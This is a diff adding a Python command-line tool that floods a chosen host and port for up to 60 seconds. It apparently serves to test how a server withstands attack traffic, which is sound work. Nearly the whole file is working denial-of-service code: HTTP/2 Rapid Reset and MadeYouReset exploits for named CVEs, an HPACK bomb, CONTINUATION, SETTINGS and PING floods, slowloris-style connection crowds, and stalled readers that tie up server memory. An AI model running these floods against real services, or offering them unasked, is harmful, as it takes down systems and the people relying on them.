@@ -1,0 +1,293 @@
+"""What attackers send, against one server and for a bounded time: `floods.py FLOOD HOST PORT SECONDS`."""
+
+import contextlib
+import itertools
+import select
+import selectors
+import socket
+import struct
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+
+CONNECTIONS = 4
+"""That each flood uses at once: enough to show, and a bound on what this program does."""
+CROWD = 500
+"""Connections of a flood that consists of connections."""
+BATCH = 32768
+"""Bytes handed to the kernel at once."""
+MOST_SECONDS = 60.0
+
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING = 0, 1, 2, 3, 4, 6
+WINDOW_UPDATE, CONTINUATION = 8, 9
+END_STREAM, END_HEADERS = 1, 4
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """One HTTP/2 frame, whether or not it makes sense."""
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def literal(name: bytes, value: bytes, *, index: bool = False) -> bytes:
+    """One field as HPACK spells it without compression; names and values are short of 127 bytes."""
+    start = b"\x40" if index else b"\x00"
+    return start + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def request(method: bytes, path: bytes = b"/1") -> bytes:
+    """A request's field block."""
+    pseudo = {b":method": method, b":scheme": b"http", b":authority": b"server", b":path": path}
+    return b"".join(literal(name, value) for name, value in pseudo.items())
+
+
+def settings(*pairs: tuple[int, int]) -> bytes:
+    """A SETTINGS frame."""
+    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))
+
+
+GREETING = PREFACE + settings()
+GET = request(b"GET")
+POST = request(b"POST")
+
+
+def streams() -> Iterator[int]:
+    """The numbers that a client may give its streams."""
+    return itertools.count(1, 2)
+
+
+def over_and_over(piece: bytes) -> Callable[[], Iterator[bytes]]:
+    """The same bytes, as often as they are taken."""
+    return lambda: itertools.repeat(piece * max(1, BATCH // len(piece)))
+
+
+def rapid_reset() -> Iterator[bytes]:
+    """Requests that are taken back before they can be answered (CVE-2023-44487)."""
+    cancel = struct.pack(">I", 8)
+    for number in streams():
+        yield frame(HEADERS, END_STREAM | END_HEADERS, number, GET) + frame(
+            RST_STREAM, 0, number, cancel
+        )
+
+
+def made_you_reset() -> Iterator[bytes]:
+    """Requests followed by what makes the server take them back (CVE-2025-8671)."""
+    too_much = struct.pack(">I", 2**31 - 1)
+    for number in streams():
+        yield frame(HEADERS, END_STREAM | END_HEADERS, number, GET) + frame(
+            WINDOW_UPDATE, 0, number, too_much
+        )
+
+
+def hpack_bomb() -> Iterator[bytes]:
+    """One long field in the table, then blocks of a few KiB that name it thousands of times."""
+    value = b"x" * 4000
+    block = b"\x40\x01a\x7f" + bytes([0x80 | (4000 - 127) & 0x7F, (4000 - 127) >> 7]) + value
+    for number in streams():
+        yield frame(HEADERS, END_STREAM | END_HEADERS, number, GET + block + b"\xbe" * 12000)
+
+
+def priorities() -> Iterator[bytes]:
+    """Priorities of streams that do not exist."""
+    for number in streams():
+        yield frame(PRIORITY, 0, number, struct.pack(">IB", 0, 15))
+
+
+def tiny_windows() -> Iterator[bytes]:
+    """A large body, fetched byte by byte."""
+    one = struct.pack(">I", 1)
+    yield b"".join(
+        frame(HEADERS, END_STREAM | END_HEADERS, number, request(b"GET", b"/64m"))
+        for number in range(1, 201, 2)
+    )
+    while True:
+        yield b"".join(frame(WINDOW_UPDATE, 0, number, one) for number in range(1, 201, 2))
+
+
+def fields() -> Iterator[bytes]:
+    """Fields without end."""
+    for number in itertools.count():
+        yield b"x-%d: %b\r\n" % (number, b"y" * 100)
+
+
+@dataclass(frozen=True)
+class Flood:
+    """What one connection of a flood says, and whether it listens."""
+
+    more: Callable[[], Iterator[bytes]]
+    opening: bytes = b""
+    reads: bool = True
+
+
+POST_1 = b"POST / HTTP/1.1\r\nHost: server\r\nTransfer-Encoding: chunked\r\n\r\n"
+FLOODS = {
+    "rapid-reset": Flood(rapid_reset, GREETING),
+    "made-you-reset": Flood(made_you_reset, GREETING),
+    "continuation": Flood(
+        over_and_over(frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100) * 100)),
+        GREETING + frame(HEADERS, END_STREAM, 1, GET),
+    ),
+    "empty-continuation": Flood(
+        over_and_over(frame(CONTINUATION, 0, 1)), GREETING + frame(HEADERS, END_STREAM, 1, GET)
+    ),
+    "hpack-bomb": Flood(hpack_bomb, GREETING),
+    "settings": Flood(over_and_over(settings((4, 65535))), GREETING, reads=False),
+    "ping": Flood(over_and_over(frame(PING, 0, 0, bytes(8))), GREETING, reads=False),
+    "priority": Flood(priorities, GREETING),
+    "empty-data": Flood(
+        over_and_over(frame(DATA, 0, 1)), GREETING + frame(HEADERS, END_HEADERS, 1, POST)
+    ),
+    "window-update": Flood(
+        over_and_over(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
+        GREETING + frame(HEADERS, END_HEADERS, 1, POST),
+    ),
+    "tiny-windows": Flood(tiny_windows, PREFACE + settings((4, 1))),
+    "fields": Flood(fields, b"GET / HTTP/1.1\r\nHost: server\r\n"),
+    "target": Flood(over_and_over(b"a" * 1000), b"GET /"),
+    "pipelining": Flood(over_and_over(b"GET /1 HTTP/1.1\r\nHost: server\r\n\r\n")),
+    "deaf-pipelining": Flood(
+        over_and_over(b"GET /1 HTTP/1.1\r\nHost: server\r\n\r\n"), reads=False
+    ),
+    "tiny-chunks": Flood(over_and_over(b"1\r\nx\r\n"), POST_1),
+    "long-chunk-lines": Flood(over_and_over(b"y" * 1000), POST_1 + b"1;x="),
+}
+
+
+@dataclass(frozen=True)
+class Target:
+    """Who is flooded, and until when."""
+
+    host: str
+    port: int
+    until: float
+
+    @property
+    def over(self) -> bool:
+        return time.monotonic() >= self.until
+
+    @property
+    def family(self) -> socket.AddressFamily:
+        return socket.AF_INET6 if ":" in self.host else socket.AF_INET
+
+    def dial(self) -> socket.socket:
+        peer = socket.socket(self.family, socket.SOCK_STREAM)
+        peer.settimeout(1)
+        peer.connect((self.host, self.port))
+        return peer
+
+
+def pour(flood: Flood, target: Target) -> None:
+    """Flood over one connection at a time until the time is up."""
+    while not target.over:
+        with contextlib.suppress(OSError), target.dial() as peer:
+            peer.settimeout(0.05)
+            _pour_into(peer, flood, target)
+
+
+def _pour_into(peer: socket.socket, flood: Flood, target: Target) -> None:
+    said = memoryview(flood.opening)
+    source = flood.more()
+    while not target.over:
+        while len(said) < BATCH:
+            said = memoryview(bytes(said) + next(source))
+        with contextlib.suppress(TimeoutError):
+            said = said[peer.send(said[:BATCH]) :]
+        if flood.reads:
+            while peer in select.select([peer], [], [], 0)[0]:
+                if not peer.recv(1 << 20):
+                    return
+
+
+def crowd(opening: bytes, drip: bytes, target: Target) -> None:
+    """Hold many connections, and say a little on each now and then; those that are ended are made anew."""
+    with selectors.DefaultSelector() as waiting, contextlib.ExitStack() as held:
+        while not target.over:
+            while len(waiting.get_map()) < CROWD and not target.over:
+                peer = held.enter_context(target.dial())
+                peer.setblocking(False)
+                peer.sendall(opening)
+                waiting.register(peer, selectors.EVENT_READ)
+            _drip(waiting, drip)
+
+
+def _drip(waiting: selectors.BaseSelector, drip: bytes) -> None:
+    for key, _ in waiting.select(0.2):
+        waiting.unregister(key.fileobj)
+    for key in waiting.get_map().values():
+        assert isinstance(key.fileobj, socket.socket)
+        with contextlib.suppress(OSError):
+            key.fileobj.send(drip)
+
+
+def vanish(target: Target) -> None:
+    """Connect and reset, over and over, half of the time after a word."""
+    for number in itertools.count():
+        if target.over:
+            return
+        with contextlib.suppress(OSError), target.dial() as peer:
+            if number % 2:
+                peer.sendall(b"GET /1 HTTP/1.1\r\n")
+            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+
+
+READERS = 1000
+STREAMS = 100
+"""Streams that one HTTP/2 connection of a stalled reader's asks for."""
+WIDE = 2**31 - 1
+LARGE_GET = b"GET /64m HTTP/1.1\r\nHost: server\r\n\r\n"
+LARGE_GETS = b"".join(
+    frame(HEADERS, END_STREAM | END_HEADERS, number, request(b"GET", b"/64m"))
+    for number in range(1, 2 * STREAMS, 2)
+)
+WIDE_OPEN = (
+    PREFACE + settings((4, WIDE)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WIDE - 65535))
+)
+"""What an HTTP/2 client says that lets the server send everything, whether or not it takes it."""
+
+
+def stall(opening: bytes, connections: int, target: Target) -> None:
+    """Ask for large bodies and never read them, until standard input ends."""
+    with contextlib.ExitStack() as held:
+        for _ in range(connections):
+            peer = held.enter_context(socket.socket(target.family, socket.SOCK_STREAM))
+            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            peer.connect((target.host, target.port))
+            peer.sendall(opening)
+        print("asked", flush=True)
+        sys.stdin.read()
+
+
+CROWDS: dict[str, Callable[[Target], None]] = {
+    "silence": lambda target: crowd(b"", b"", target),
+    "slow-heads": lambda target: crowd(b"GET / HTTP/1.1\r\nHost: server\r\n", b"x", target),
+    "slow-bodies": lambda target: crowd(
+        b"POST / HTTP/1.1\r\nHost: server\r\nContent-Length: 100000\r\n\r\n", b"x", target
+    ),
+    "slow-prefaces": lambda target: crowd(b"", PREFACE[:1], target),
+    "vanishing": vanish,
+    "stalled-http1": lambda target: stall(LARGE_GET, READERS, target),
+    "stalled-streams": lambda target: stall(GREETING + LARGE_GETS, READERS // STREAMS, target),
+    "stalled-wide-streams": lambda target: stall(
+        WIDE_OPEN + LARGE_GETS, READERS // STREAMS, target
+    ),
+}
+
+
+def main(name: str, host: str, port: str, seconds: str) -> None:
+    target = Target(host, int(port), time.monotonic() + min(float(seconds), MOST_SECONDS))
+    if name in CROWDS:
+        CROWDS[name](target)
+        return
+    pourers = [
+        threading.Thread(target=pour, args=(FLOODS[name], target)) for _ in range(CONNECTIONS)
+    ]
+    for pourer in pourers:
+        pourer.start()
+    for pourer in pourers:
+        pourer.join()
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
